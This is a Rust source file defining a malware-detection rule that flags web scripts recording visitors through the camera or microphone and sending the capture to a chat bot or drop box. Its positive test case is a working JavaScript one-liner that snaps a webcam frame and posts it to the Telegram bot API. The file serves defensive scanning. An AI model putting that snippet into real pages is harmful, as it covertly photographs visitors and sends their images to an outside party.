//! `filmed-for-bot`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "filmed-for-bot",
    description: "The script records the visitor with the camera or microphone and sends it to a chat bot or a public drop box.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Camera]), one(&[Atom::BotCall, Atom::DropBox])],
    within: 500,
    only_if: Some(records),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"navigator.mediaDevices.getUserMedia({video:true}).then(s=>{v.srcObject=s;c.getContext('2d').drawImage(v,0,0);c.toBlob(b=>{const f=new FormData();f.append('chat_id',C);f.append('photo',b);fetch('https://api.telegram.org/bot'+T+'/sendPhoto',{method:'POST',body:f})})})"#,
        ],
        without: &[
            r#"navigator.mediaDevices.getUserMedia({video:true}).then(s=>{v.srcObject=s;c.getContext('2d').drawImage(v,0,0);c.toBlob(b=>upload('/avatar',b))})"#,
            r#"navigator.mediaDevices.getUserMedia({audio:true}).then(call);send('https://api.telegram.org/bot'+T+'/sendMessage',{chat_id:C,text:'call started'})"#,
        ],
    },
};

fn records(evidence: &Evidence<'_>, held: Held) -> bool {
    Near::new(evidence, held, 20).has_word(&[
        "toBlob",
        "toDataURL",
        "MediaRecorder",
        "takePhoto",
        "grabFrame",
    ])
}
